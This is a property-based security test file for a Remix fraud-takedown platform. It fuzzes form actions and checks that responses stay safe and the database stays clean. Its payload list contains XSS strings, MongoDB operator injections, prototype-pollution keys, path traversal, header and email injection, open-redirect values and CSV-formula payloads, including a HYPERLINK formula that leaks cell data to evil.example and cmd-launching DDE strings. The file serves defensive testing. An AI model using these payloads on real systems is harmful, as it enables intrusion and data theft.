import { randomBytes } from 'node:crypto'
import type { AppLoadContext } from '@remix-run/node'
import { parse as parseCsv } from 'csv-parse/sync'
import fc from 'fast-check'
import mongoose from 'mongoose'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { hashAuditEvent, verifyAuditChain } from '~/audit/audit.server'
import {
  accessPurposes,
  actionTypes,
  credibilityGrades,
  matchReasonCodes,
  notificationEvents,
  organisationKinds,
  reliabilityGrades,
  sightingKinds,
  supportedLocales,
  taskPriorities,
  tlpLabels,
} from '~/domain/vocabulary'
import { createInitiative } from '~/initiatives/initiatives.server'
import { initiativeHealthList, initiativeStatusList } from '~/initiatives/shared'
import { exportPurposes } from '~/reports/purpose'
import { action as accountNotificationsAction } from '~/routes/account_.notifications'
import { action as applyAction } from '~/routes/apply'
import { action as auditExportAction } from '~/routes/audit.export'
import { action as dpoRetentionAction } from '~/routes/dpo.retention'
import { action as forgotPasswordAction } from '~/routes/forgot-password'
import { action as indicatorAction } from '~/routes/indicators.$indicatorId'
import { action as indicatorExportAction } from '~/routes/indicators.export_.download'
import { action as newIndicatorAction } from '~/routes/indicators.new'
import { action as initiativeAction } from '~/routes/initiatives.$initiativeId'
import { action as editInitiativeAction } from '~/routes/initiatives.$initiativeId_.edit'
import { action as newInitiativeAction } from '~/routes/initiatives.new'
import { action as initiativeTasksCsvAction } from '~/routes/initiatives_.$initiativeId_.tasks[.]csv'
import { action as acceptInvitationAction } from '~/routes/invitations.$token'
import { action as loginAction } from '~/routes/login'
import { action as verifyAction } from '~/routes/login_.verify'
import { action as notificationsAction } from '~/routes/notifications'
import { action as partnerAction } from '~/routes/partners.$organisationId'
import { action as personAction } from '~/routes/people.$userId'
import { action as inviteAction } from '~/routes/people.invite'
import { action as resetPasswordAction } from '~/routes/reset-password.$token'
import { action as localeAction } from '~/routes/resources.locale'
import { action as retentionAction } from '~/routes/retention.$submissionId'
import { action as taskAction } from '~/routes/tasks.$taskId'
import { action as newTaskAction } from '~/routes/tasks.new'
import { action as templateAction } from '~/routes/tasks.templates.$templateId'
import { action as newTemplateAction } from '~/routes/tasks.templates.new'
import { action as vettingAction } from '~/routes/vetting.$organisationId'
import { createTasks } from '~/tasks/tasks.server'
import { createTemplate } from '~/tasks/templates.server'
import { containsCardNumber } from '~/utils/card-numbers'
import { totpCodeAt } from '~/auth/totp.server'
import { createTestOrganisation } from '../factories/organisations'
import { createTestUser, TEST_PASSWORD, type TestUser } from '../factories/users'
import { arrangeWorld, collection, isDataWithInit, locationOf, pendingClient, statusOf, type World } from '../support/access-fixtures'
import { call, testContext, type Client } from '../support/requests'
import { checkContent, checkFields, databaseProblems, isPlainObject, schemas } from '../support/database-checks'

/**
 * Hostile input, property-based: for the important form actions, 200 generated requests each (fixed
 * seed) mixing valid forms with MongoDB operators, prototype keys, 100k-character strings, invalid
 * UTF-8 and lone surrogates, control characters, HTML and CSV-formula payloads, card numbers, wrong
 * types, repeated, missing and extra fields, and other encodings. Every answer must be a 4xx with a
 * message or a correct success (a same-site redirect, a neutralised CSV), never a 5xx nor a thrown
 * error; afterwards the database holds no operator key, no card number and no invalid document.
 */

const SEED = 20_240_613
const RUNS = 200
const ORIGIN = 'http://localhost'
const MAX_FORM_BYTES = 256 * 1024

// --- payload building blocks ----------------------------------------------------------------------

/** Raw bytes sent as they are (invalid UTF-8 on the wire). */
class Bytes {
  constructor(
    readonly bytes: Uint8Array,
    readonly label: string,
  ) {}
  toJSON() {
    return `<bytes ${this.label}>`
  }
}
type Value = string | Bytes
type Entry = readonly [string, Value]
type Encoding = 'urlencoded' | 'multipart' | 'json' | 'text' | 'none'
type Payload = { entries: Entry[]; encoding: Encoding; csrf: 'valid' | 'missing' | 'wrong'; query: string; ip: string; actor: number }

/** A Luhn-valid card number, as people type them (spaces, dashes or none). */
const cardNumber = fc
  .tuple(fc.constantFrom('4', '51', '55', '37', '6011'), fc.array(fc.integer({ min: 0, max: 9 }), { minLength: 14, maxLength: 14 }), fc.constantFrom('', ' ', '-'))
  .map(([prefix, digits, separator]) => {
    const body = (prefix + digits.join('')).slice(0, 15)
    let sum = 0
    for (let i = 0; i < body.length; i++) {
      let digit = Number(body[body.length - 1 - i])
      if (i % 2 === 0) {
        digit *= 2
        if (digit > 9) digit -= 9
      }
      sum += digit
    }
    const full = body + String((10 - (sum % 10)) % 10)
    return full.replace(/(\d{4})(?=\d)/g, `$1${separator}`)
  })

const knownBad: string[] = [
  // MongoDB operators and prototype keys as values
  '{"$gt": ""}',
  '{"$ne": null}',
  '{"$where": "sleep(1000)"}',
  '$where',
  '$gt',
  'a.b',
  '__proto__',
  'constructor',
  'prototype',
  '{"__proto__": {"polluted": true}}',
  // markup and templates
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert(1)",
  '<svg/onload=alert(1)>',
  '{{7*7}}${7*7}',
  // spreadsheet formulas
  '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  // control characters, bidi, lone surrogates, odd Unicode
  '\u0000',
  'a\u0000b',
  '\u0001\u0002\u001b[31m\u007f',
  'line one\r\nline two',
  '\u202eevil\u202c',
  '\u200b\ufeff',
  '\ud800',
  'a\udfffb',
  '\ud83d',
  '\u{1F4A9}\u{1F469}\u200d\u{1F467}',
  'İİİ',
  'ﬃß',
  // numbers, dates and ids that are almost right
  '',
  ' ',
  'null',
  'undefined',
  '[]',
  'NaN',
  'Infinity',
  '-1',
  '0',
  '1e309',
  '9007199254740993',
  '0x1F',
  '1.5',
  ' 7 ',
  '0000-00-00',
  '2024-02-30',
  '9999-12-31',
  '-271821-04-19',
  '+275760-09-13',
  '1970-01-01T00:00:00Z',
  '000000000000000000000000',
  'ffffffffffffffffffffffff',
  '../../../etc/passwd',
  '%00%2e%2e',
  // redirects and header injection
  '//evil.example',
  '/\\evil.example',
  '/\t/evil.example',
  'https://evil.example/',
  '/\r\nSet-Cookie: pwned=1',
  '/notifications?\n',
  '/notifications?x=\u00e9\u0416',
  // addresses
  'a@b',
  'x@example.org\r\nBcc: y@example.org',
  '"<script>"@example.org',
  `${'a'.repeat(300)}@example.org`,
  // imagery smuggled as text
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  // card numbers in text
  '4111 1111 1111 1111',
  '4111-1111-1111-1111',
  'paid with 5500 0000 0000 0004 yesterday',
  '５５００ ００００ ００００ ０００４',
  'card:378282246310005',
]

/** Ids of real objects of the other side, filled in once the partnership is arranged. */
const known = { objectIds: [] as string[] }

const invalidUtf8 = fc.constantFrom(
  new Bytes(Uint8Array.from([0xff, 0xfe]), 'ff fe'),
  new Bytes(Uint8Array.from([0xc0, 0xaf]), 'overlong slash'),
  new Bytes(Uint8Array.from([0xed, 0xa0, 0x80]), 'encoded lone surrogate'),
  new Bytes(Uint8Array.from([0x61, 0xe2, 0x82]), 'truncated sequence'),
  new Bytes(Uint8Array.from([0xf8, 0x88, 0x80, 0x80, 0x80]), 'five-byte sequence'),
)

const longString = fc.constantFrom('x', '<', '4', 'é', '$').map((char) => char.repeat(100_000))

const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom(...knownBad) },
  { weight: 2, arbitrary: cardNumber },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.tuple(fc.constantFrom('Note: ', 'x', '', '=', ' '), fc.constantFrom(...knownBad), cardNumber).map(([a, b, c]) => `${a}${b} ${c}`) },
  // Real ids of the other side's objects (read when generated: the world is arranged by then).
  { weight: 1, arbitrary: fc.nat().map((index) => known.objectIds[index % Math.max(1, known.objectIds.length)] ?? '000000000000000000000000') },
)
const hostileValue: fc.Arbitrary<Value> = fc.oneof(
  { weight: 14, arbitrary: hostileText },
  { weight: 1, arbitrary: invalidUtf8 },
  { weight: 1, arbitrary: longString },
)
const hostileName = fc.constantFrom('$where', '$gt', 'a.b', '__proto__', 'constructor', 'prototype', '__proto__[polluted]', 'constructor[prototype][polluted]', 'email[$ne]', 'intent', 'csrf', '', ' ', '\u0000', '$')

type FieldSpec = Record<string, fc.Arbitrary<string | string[]>>

type Mutation = { kind: 'replace'; value: Value } | { kind: 'repeat'; values: Value[] } | { kind: 'append'; value: Value } | { kind: 'omit' }
const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  { weight: 5, arbitrary: hostileValue.map((value): Mutation => ({ kind: 'replace', value })) },
  { weight: 2, arbitrary: fc.array(hostileValue, { minLength: 2, maxLength: 3 }).map((values): Mutation => ({ kind: 'repeat', values })) },
  { weight: 1, arbitrary: hostileValue.map((value): Mutation => ({ kind: 'append', value })) },
  { weight: 1, arbitrary: fc.constant<Mutation>({ kind: 'omit' }) },
)

/** A form of the spec: all valid, valid but one field, or a mix; plus up to three extra hostile fields. */
function formEntries(spec: FieldSpec): fc.Arbitrary<Entry[]> {
  const names = Object.keys(spec)
  const valid = fc.tuple(...names.map((name) => spec[name] ?? fc.constant('')))
  return fc
    .tuple(
      valid,
      fc.constantFrom('clean', 'oneBad', 'oneBad', 'mixed'),
      fc.nat({ max: Math.max(0, names.length - 1) }),
      fc.array(mutation, { minLength: names.length, maxLength: names.length }),
      fc.array(fc.boolean(), { minLength: names.length, maxLength: names.length }),
      fc.array(fc.tuple(fc.oneof(hostileName, fc.constantFrom(...names, 'x')), hostileValue), { maxLength: 3 }),
    )
    .map(([values, mode, bad, mutations, mixed, extras]) => {
      const entries: Entry[] = []
      names.forEach((name, index) => {
        const validValues = ([] as string[]).concat(values[index] ?? [])
        const mutated = mode === 'oneBad' ? index === bad : mode === 'mixed' && mixed[index] === true
        const change = mutated ? mutations[index] : undefined
        if (!change) validValues.forEach((value) => entries.push([name, value]))
        else if (change.kind === 'replace') entries.push([name, change.value])
        else if (change.kind === 'repeat') change.values.forEach((value) => entries.push([name, value]))
        else if (change.kind === 'append') {
          validValues.forEach((value) => entries.push([name, value]))
          entries.push([name, change.value])
        }
      })
      if (mode !== 'clean') entries.push(...extras)
      return entries
    })
}

// --- requests -------------------------------------------------------------------------------------

const utf8 = new TextEncoder()

/** Percent-encodes UTF-8, except that lone surrogates go out as the (invalid) bytes a careless client sends. */
function percentEncode(value: Value): string {
  if (value instanceof Bytes) return [...value.bytes].map((byte) => `%${byte.toString(16).padStart(2, '0').toUpperCase()}`).join('')
  let out = ''
  for (let i = 0; i < value.length; i++) {
    const code = value.charCodeAt(i)
    const next = value.charCodeAt(i + 1)
    if (code >= 0xd800 && code <= 0xdbff && next >= 0xdc00 && next <= 0xdfff) {
      out += encodeURIComponent(value.slice(i, i + 2))
      i++
    } else if (code >= 0xd800 && code <= 0xdfff) {
      out += `%${(0xe0 | (code >> 12)).toString(16).toUpperCase()}%${(0x80 | ((code >> 6) & 0x3f)).toString(16).toUpperCase()}%${(0x80 | (code & 0x3f)).toString(16).toUpperCase()}`
    } else out += encodeURIComponent(value[i] ?? '')
  }
  return out
}

const bytesOf = (value: Value) => (value instanceof Bytes ? value.bytes : utf8.encode(value))
const textOf = (value: Value) => (value instanceof Bytes ? Buffer.from(value.bytes).toString('latin1') : value)

function bodyOf(entries: Entry[], encoding: Encoding): { body: Uint8Array<ArrayBuffer>; contentType: string | null } {
  if (encoding === 'multipart') {
    const boundary = `----hostile${randomBytes(8).toString('hex')}`
    const parts: Uint8Array[] = []
    for (const [name, value] of entries) {
      parts.push(utf8.encode(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n`), bytesOf(value), utf8.encode('\r\n'))
    }
    parts.push(utf8.encode(`--${boundary}--\r\n`))
    return { body: new Uint8Array(Buffer.concat(parts)), contentType: `multipart/form-data; boundary=${boundary}` }
  }
  if (encoding === 'json') {
    const object: Record<string, unknown> = {}
    for (const [name, value] of entries) {
      const text = textOf(value)
      let parsed: unknown = text
      try {
        parsed = text.startsWith('{') ? JSON.parse(text) : text
      } catch {
        parsed = text
      }
      Object.defineProperty(object, name, { value: parsed, enumerable: true, configurable: true, writable: true })
    }
    return { body: utf8.encode(JSON.stringify(object)), contentType: 'application/json' }
  }
  if (encoding === 'text') return { body: utf8.encode(entries.map(([name, value]) => `${name}=${textOf(value)}`).join('\r\n')), contentType: 'text/plain' }
  const text = entries.map(([name, value]) => `${percentEncode(name)}=${percentEncode(value)}`).join('&')
  return { body: utf8.encode(text), contentType: encoding === 'none' ? null : 'application/x-www-form-urlencoded' }
}

function buildRequest(path: string, client: Client, payload: Payload): Request {
  const csrf: Entry[] = payload.csrf === 'valid' ? [['csrf', client.csrf]] : payload.csrf === 'wrong' ? [['csrf', randomBytes(24).toString('base64url')]] : []
  const { body, contentType } = bodyOf([...csrf, ...payload.entries], payload.encoding)
  const headers: Record<string, string> = { cookie: client.cookie, 'content-length': String(body.byteLength), 'user-agent': 'hostile-input' }
  if (contentType) headers['content-type'] = contentType
  return new Request(`${ORIGIN}${path}${payload.query}`, { method: 'POST', headers, body })
}

// --- judging an answer ----------------------------------------------------------------------------

function messageIn(data: unknown): string | null {
  if (typeof data !== 'object' || data === null) return typeof data === 'string' && data.trim() ? data : null
  for (const key of ['errors', 'error', 'message', 'reason', 'formError', 'refused', 'failed']) {
    const value: unknown = (data as Record<string, unknown>)[key]
    if (value === null || value === undefined || value === false || value === '') continue
    if (typeof value === 'object' && Object.keys(value).length === 0) continue
    return JSON.stringify(value)
  }
  return null
}

const FORMULA = /^[=+\-@\t\r]/

/** What is wrong with an answer, or null when it is a 4xx with a message or a correct success. */
async function problemWith(result: unknown): Promise<string | null> {
  const status = statusOf(result)
  if (status >= 500) return `answered ${status}`
  if (status >= 400) {
    const message = result instanceof Response ? (await result.clone().text()).trim() || null : messageIn(isDataWithInit(result) ? result.data : result)
    return message ? null : `answered ${status} without a message`
  }
  if (status >= 300) {
    const location = locationOf(result)
    if (!location) return `answered ${status} without a Location`
    if ([...location].some((char) => char.charCodeAt(0) <= 0x20 || (char.charCodeAt(0) >= 0x7f && char.charCodeAt(0) <= 0x9f))) return `redirects to a location with control characters or spaces: ${JSON.stringify(location)}`
    if (new URL(location, ORIGIN).origin !== ORIGIN) return `redirects off-site: ${JSON.stringify(location)}`
    return null
  }
  if (result instanceof Response && /text\/csv/.test(result.headers.get('content-type') ?? '')) {
    const text = (await result.clone().text()).replace(/^\uFEFF/, '')
    const rows: string[][] = parseCsv(text, { relax_column_count: true })
    for (const row of rows) for (const cell of row) if (FORMULA.test(cell)) return `CSV cell starts a formula: ${JSON.stringify(cell.slice(0, 80))}`
  }
  return null
}

// --- the arranged partnership and the actions under test -----------------------------------------

type Params = Record<string, string>
type RouteAction = (args: { request: Request; params: Params; context: AppLoadContext }) => Promise<unknown>
type Target = {
  name: string
  action: RouteAction
  path: () => string
  params?: () => Params
  /** Who posts: one of these clients per request. */
  actors: (() => Client | Promise<Client>)[]
  forms: FieldSpec[]
  query?: fc.Arbitrary<string>
}

let world: World
const extra = {} as {
  loginUser: TestUser
  person: string
  suspendable: string
  applications: string[]
  tasks: string[]
  initiative: string
  milestone: string
  template: string
}

const day = (offsetDays: number) => new Date(Date.now() + offsetDays * 86_400_000).toISOString().slice(0, 10)
const someText = fc.constantFrom('Merchant terminated after the notice.', 'Storefront still online; escalated.', 'Acquirer confirmed the relationship.', 'Résumé für Žluťoučký кінь')
const someEmail = fc.stringMatching(/^[a-z]{3,10}\.[a-z0-9]{4}$/).map((local) => `${local}@example.org`)
const maybe = <T,>(arbitrary: fc.Arbitrary<T>, blank: T) => fc.oneof(arbitrary, fc.constant(blank))
/** Where to go back to: the pages' own values, and what an attacker would put there instead. */
const backTo = (...valid: string[]) =>
  fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...valid) },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        '//evil.example',
        '/\\evil.example',
        '/\t/evil.example',
        'https://evil.example/',
        '/\r\nSet-Cookie: pwned=1',
        `${valid[0] ?? '/'}?q=\u00e9\u0416`,
        `${valid[0] ?? '/'}?\u0000`,
      ),
    },
  )

function targets(): Target[] {
  const w = world
  const as = (who: keyof World['clients']) => () => w.clients[who]
  const indicatorValues: Record<string, fc.Arbitrary<string>> = {
    domain: fc.stringMatching(/^[a-z]{4,10}$/).map((name) => `${name}-${w.run}.example.com`),
    url: fc.stringMatching(/^[a-z]{4,10}$/).map((name) => `https://${name}.example.net/pay?id=1`),
    email: someEmail,
    ip: fc.ipV4(),
    file_hash: fc.stringMatching(/^[a-f0-9]{64}$/),
    mcc: fc.constantFrom('5967', '7995'),
  }
  return [
    {
      name: 'POST /apply',
      action: applyAction,
      path: () => '/apply',
      actors: [as('anonymous')],
      forms: [
        {
          legalName: fc.stringMatching(/^[A-Z][a-z]{3,12}$/).map((name) => `${name} Pay ${w.run}`),
          kind: fc.constantFrom(...organisationKinds),
          country: fc.constantFrom('FR', 'DE', 'ru', 'GB'),
          agreementReference: fc.constantFrom('PPP-2024-0042', ''),
          contactName: fc.constantFrom('Ana Lima', 'Жанна Петрова'),
          contactEmail: someEmail,
          contactPhone: fc.constantFrom('+33 1 23 45 67 89', '+7 (495) 123-45-67'),
          applicantName: fc.constantFrom('Marc Dupont', 'Olga Ivanova'),
          applicantEmail: someEmail,
          acceptTerms: fc.constant('on'),
        },
      ],
    },
    {
      name: 'POST /login',
      action: loginAction,
      path: () => '/login',
      actors: [as('anonymous')],
      forms: [{ email: fc.constantFrom(extra.loginUser.email, 'nobody@example.org', extra.loginUser.email.toUpperCase()), password: fc.constantFrom(TEST_PASSWORD, 'wrong password 123') }],
      query: fc.constantFrom('', '?redirectTo=%2Ftasks', '?redirectTo=%2F%2Fevil.example', '?redirectTo=%2F%09%2Fevil.example', '?redirectTo=https%3A%2F%2Fevil.example'),
    },
    {
      name: 'POST /login/verify',
      action: verifyAction,
      path: () => '/login/verify',
      actors: [() => pendingClient(extra.loginUser, 'password')],
      forms: [{ code: fc.oneof(fc.stringMatching(/^\d{6}$/), fc.constantFrom('abcd-efgh-ijkl', '000000')) }],
      query: fc.constantFrom('', '?redirectTo=%2Ftasks', '?redirectTo=%2F%2Fevil.example', '?redirectTo=%2F%09%2Fevil.example'),
    },
    {
      name: 'POST /forgot-password',
      action: forgotPasswordAction,
      path: () => '/forgot-password',
      actors: [as('anonymous')],
      forms: [{ email: fc.oneof(someEmail, fc.constant(extra.loginUser.email)) }],
    },
    {
      name: 'POST /audit/export (purpose and filters)',
      action: auditExportAction,
      path: () => '/audit/export',
      actors: [as('dpo'), as('platform_admin')],
      forms: [{ purpose: fc.constantFrom('Quarterly data-protection review', 'Incident 2024-17') }],
      query: fc
        .array(fc.tuple(fc.constantFrom('action', 'prefix', 'outcome', 'organisation', 'from', 'to', 'actor'), fc.oneof(hostileText, fc.constantFrom('task.created', 'success', day(-3)))), { maxLength: 3 })
        .map((pairs) => (pairs.length ? `?${pairs.map(([key, value]) => `${key}=${percentEncode(value)}`).join('&')}` : '')),
    },
    {
      name: 'POST /reset-password/:token',
      action: resetPasswordAction,
      path: () => '/reset-password/no-such-token',
      params: () => ({ token: 'no-such-token' }),
      actors: [as('anonymous')],
      forms: [{ password: fc.constant('a long enough new passphrase 9'), confirm: fc.constant('a long enough new passphrase 9') }],
    },
    {
      name: 'POST /invitations/:token (accept)',
      action: acceptInvitationAction,
      path: () => '/invitations/no-such-token',
      params: () => ({ token: 'no-such-token' }),
      actors: [as('anonymous')],
      forms: [{ name: fc.constantFrom('Ana Lima', 'Олег'), password: fc.constant('a long enough new passphrase 9'), confirm: fc.constant('a long enough new passphrase 9') }],
    },
    {
      name: 'POST /people/invite',
      action: inviteAction,
      path: () => '/people/invite',
      actors: [as('admin'), as('coordinator')],
      forms: [{ name: fc.constantFrom('Ana Lima', 'Жанна'), email: someEmail, roles: fc.constantFrom<string | string[]>('member', 'admin', ['member', 'admin'], 'staff', 'platform_admin') }],
    },
    {
      name: 'POST /people/:userId (person actions)',
      action: personAction,
      path: () => `/people/${extra.person}`,
      params: () => ({ userId: extra.person }),
      actors: [as('admin')],
      forms: [
        { intent: fc.constant('changeRoles'), roles: fc.constantFrom<string | string[]>('member', 'admin', ['member', 'admin'], 'coordinator') },
        { intent: fc.constantFrom('deactivate', 'revokeSessions', 'resetMfa'), confirm: fc.constant('yes') },
        { intent: fc.constant('reactivate') },
      ],
    },
    {
      name: 'POST /vetting/:organisationId (decisions)',
      action: vettingAction,
      path: () => `/vetting/${extra.applications[0]}`,
      params: () => ({ organisationId: extra.applications[0] ?? '' }),
      actors: [as('coordinator')],
      forms: [{ intent: fc.constantFrom('approve', 'reject'), reason: someText }],
    },
    {
      name: 'POST /partners/:organisationId (suspend, reinstate)',
      action: partnerAction,
      path: () => `/partners/${extra.suspendable}`,
      params: () => ({ organisationId: extra.suspendable }),
      actors: [as('coordinator')],
      forms: [{ intent: fc.constantFrom('suspend', 'reinstate'), reason: someText, confirm: fc.constant('on') }],
    },
    {
      name: 'POST /tasks/new',
      action: newTaskAction,
      path: () => '/tasks/new',
      actors: [as('staff')],
      forms: [
        {
          intent: fc.constantFrom('assign', 'draft'),
          submission: fc.uuid(),
          title: fc.constantFrom('Terminate the merchant', 'Block the storefront URL'),
          description: someText,
          assigneeOrganisationIds: fc.constantFrom<string | string[]>(w.organisations.partnerP, [w.organisations.partnerP, w.organisations.partnerQ], w.organisations.centreB),
          assigneeUserId: maybe(fc.constant(w.people.member.id), ''),
          priority: fc.constantFrom(...taskPriorities),
          dueDate: maybe(fc.constant(day(10)), ''),
          tlp: fc.constantFrom(...tlpLabels),
          initiativeId: maybe(fc.constant(w.initiatives.own), ''),
          redRecipientIds: maybe(fc.constant(w.people.member.id), ''),
        },
        { intent: fc.constant('people'), assigneeOrganisationIds: fc.constant(w.organisations.partnerP) },
      ],
    },
    {
      name: 'POST /tasks/:taskId (transition, report, comment, link)',
      action: taskAction,
      path: () => `/tasks/${extra.tasks[0]}`,
      params: () => ({ taskId: extra.tasks[0] ?? '' }),
      actors: [as('staff'), as('member')],
      forms: [
        {
          intent: fc.constant('transition'),
          transition: fc.constantFrom('assign', 'acknowledge', 'start', 'decline', 'verify', 'return', 'close', 'notApplicable', 'cancel'),
          reason: someText,
          assigneeOrganisationId: maybe(fc.constant(w.organisations.partnerQ), ''),
          confirm: fc.constant('on'),
        },
        {
          intent: fc.constant('report'),
          'actions.0.type': fc.constantFrom(...actionTypes),
          'actions.0.quantity': fc.constantFrom('1', '12'),
          'actions.0.actionDate': fc.constant(day(-1)),
          'actions.0.reference': fc.constantFrom('STR-2024-77', ''),
          'actions.0.matchReasonCode': maybe(fc.constantFrom(...matchReasonCodes), ''),
          'actions.0.note': someText,
        },
        { intent: fc.constant('comment'), body: someText, visibility: fc.constantFrom('shared', 'internal') },
        { intent: fc.constant('linkIndicator'), indicatorType: fc.constant('domain'), indicatorValue: fc.constant(`shop-${w.run}.example.com`) },
      ],
    },
    {
      name: 'POST /tasks/templates/new',
      action: newTemplateAction,
      path: () => '/tasks/templates/new',
      actors: [as('staff')],
      forms: [
        {
          name: fc.stringMatching(/^[A-Z][a-z]{3,10}$/).map((name) => `Playbook ${name}`),
          description: someText,
          step_title: fc.constantFrom<string | string[]>('Resolve the acquirer', ['Notify the scheme', 'Terminate the merchant']),
          step_description: someText,
          step_kind: fc.constantFrom<string | string[]>('card_scheme', ['card_scheme', 'acquirer_processor']),
          step_priority: fc.constantFrom(...taskPriorities),
          step_due: fc.constantFrom('0', '3', '365'),
        },
        { intent: fc.constantFrom('more', 'up:1', 'down:0', 'down:99') },
      ],
    },
    {
      name: 'POST /tasks/templates/:templateId (edit)',
      action: templateAction,
      path: () => `/tasks/templates/${extra.template}`,
      params: () => ({ templateId: extra.template }),
      actors: [as('coordinator')],
      forms: [
        {
          name: fc.stringMatching(/^[A-Z][a-z]{3,10}$/).map((name) => `Edited ${name}`),
          description: someText,
          step_title: fc.constant('Resolve the acquirer'),
          step_description: someText,
          step_kind: fc.constantFrom(...organisationKinds),
          step_priority: fc.constantFrom(...taskPriorities),
          step_due: fc.constantFrom('1', '30'),
        },
        { intent: fc.constantFrom('more', 'up:1', 'down:0') },
      ],
    },
    {
      name: 'POST /initiatives/new',
      action: newInitiativeAction,
      path: () => '/initiatives/new',
      actors: [as('staff')],
      forms: [
        {
          submission: fc.uuid(),
          title: fc.constantFrom('Storefront network Q', 'Crypto ramp R'),
          purpose: fc.constant('Take the payment channels of the network down; data used for that only.'),
          status: fc.constantFrom(...initiativeStatusList),
          startDate: maybe(fc.constant(day(0)), ''),
          targetDate: maybe(fc.constant(day(90)), ''),
          tlp: fc.constantFrom(...tlpLabels),
          excludeNotApplicable: maybe(fc.constant('on'), ''),
          objective_type: fc.constantFrom<string | string[]>('merchant_terminated', ['merchant_terminated', 'url_blocked']),
          objective_target: fc.constantFrom<string | string[]>('5', ['5', '10']),
          milestone_title: fc.constant('First notices sent'),
          milestone_due: fc.constant(day(30)),
        },
        { intent: fc.constantFrom('moreObjectives', 'moreMilestones') },
      ],
    },
    {
      name: 'POST /initiatives/:initiativeId/edit',
      action: editInitiativeAction,
      path: () => `/initiatives/${extra.initiative}/edit`,
      params: () => ({ initiativeId: extra.initiative }),
      actors: [as('coordinator')],
      forms: [
        {
          title: fc.constantFrom('Storefront network Q', 'Storefront network Q (phase 2)'),
          purpose: fc.constant('Take the payment channels of the network down; data used for that only.'),
          status: fc.constantFrom(...initiativeStatusList),
          startDate: maybe(fc.constant(day(0)), ''),
          targetDate: maybe(fc.constant(day(90)), ''),
          tlp: fc.constantFrom(...tlpLabels),
          tlpReason: maybe(fc.constant('Shared more widely after review.'), ''),
          objective_type: fc.constant('url_blocked'),
          objective_target: fc.constant('7'),
          milestone_id: fc.constant(extra.milestone),
          milestone_title: fc.constant('First notices sent'),
          milestone_due: fc.constant(day(30)),
        },
      ],
    },
    {
      name: 'POST /initiatives/:initiativeId (status updates, status, invitations, milestones)',
      action: initiativeAction,
      path: () => `/initiatives/${extra.initiative}`,
      params: () => ({ initiativeId: extra.initiative }),
      actors: [as('coordinator')],
      forms: [
        { intent: fc.constant('update'), text: someText, health: fc.constantFrom(...initiativeHealthList) },
        { intent: fc.constant('status'), status: fc.constantFrom(...initiativeStatusList) },
        { intent: fc.constant('invite'), organisationIds: fc.constantFrom<string | string[]>(w.organisations.partnerQ, [w.organisations.partnerQ, w.organisations.operator]) },
        { intent: fc.constant('milestone'), milestoneId: fc.constant(extra.milestone), done: fc.constantFrom('0', '1') },
      ],
    },
    {
      name: 'POST /indicators/new',
      action: newIndicatorAction,
      path: () => '/indicators/new',
      actors: [as('member')],
      forms: Object.entries(indicatorValues).map(([type, value]) => ({
        type: fc.constant(type),
        value,
        tlp: fc.constantFrom('', ...tlpLabels),
        reliability: fc.constantFrom(...reliabilityGrades),
        credibility: fc.constantFrom(...credibilityGrades),
        context: someText,
        personal: maybe(fc.constant('on'), ''),
        initiativeId: maybe(fc.constant(w.initiatives.own), ''),
        firstSeenAt: maybe(fc.constant(day(-5)), ''),
        lastSeenAt: maybe(fc.constant(day(-1)), ''),
        redRecipientIds: maybe(fc.constant(w.people.admin.id), ''),
      })),
    },
    {
      name: 'POST /indicators/:indicatorId (sightings, purpose)',
      action: indicatorAction,
      path: () => `/indicators/${w.indicators.own}`,
      params: () => ({ indicatorId: w.indicators.own }),
      actors: [as('member'), as('staff')],
      forms: [
        { intent: fc.constant('sighting'), kind: fc.constantFrom(...sightingKinds), at: fc.constant(day(-1)), count: fc.constantFrom('1', '40'), tlp: fc.constantFrom(...tlpLabels), note: someText },
        { intent: fc.constant('purpose'), purpose: fc.constantFrom(...accessPurposes), justification: someText },
      ],
    },
    {
      name: 'POST /retention/:submissionId (re-justify)',
      action: retentionAction,
      path: () => `/retention/${encodeURIComponent(w.submissions.partner)}`,
      params: () => ({ submissionId: w.submissions.partner }),
      actors: [as('member')],
      forms: [{ purpose: fc.constantFrom(...accessPurposes), justification: someText }],
    },
    {
      name: 'POST /dpo/retention (configuration)',
      action: dpoRetentionAction,
      path: () => '/dpo/retention',
      actors: [as('dpo')],
      forms: [
        {
          personalReviewMonths: fc.constantFrom('6', '1'),
          personalDeleteMonths: fc.constantFrom('12', '120'),
          businessReviewMonths: fc.constantFrom('12', '2'),
          businessDeleteMonths: fc.constantFrom('36', '24'),
        },
      ],
    },
    {
      name: 'POST /account/notifications (preferences)',
      action: accountNotificationsAction,
      path: () => '/account/notifications',
      actors: [as('member'), as('staff')],
      forms: [{ email: fc.subarray([...notificationEvents]) }],
    },
    {
      name: 'POST /notifications (mark read)',
      action: notificationsAction,
      path: () => '/notifications',
      actors: [as('member')],
      forms: [
        { intent: fc.constant('read'), id: fc.constantFrom(w.notifications.own.member, w.notifications.other), redirectTo: backTo('/notifications', '/notifications?show=unread') },
        { intent: fc.constant('read-all'), redirectTo: backTo('/notifications', '/notifications?show=unread') },
      ],
    },
    {
      name: 'POST /resources/locale (language switch)',
      action: localeAction,
      path: () => '/resources/locale',
      actors: [as('anonymous'), as('member')],
      forms: [{ locale: fc.constantFrom(...supportedLocales), redirectTo: backTo('/tasks?view=owned', '/', '/statistics') }],
    },
    {
      name: 'POST /initiatives/:initiativeId/tasks.csv (export purpose)',
      action: initiativeTasksCsvAction,
      path: () => `/initiatives/${w.initiatives.own}/tasks.csv`,
      params: () => ({ initiativeId: w.initiatives.own }),
      actors: [as('staff'), as('member')],
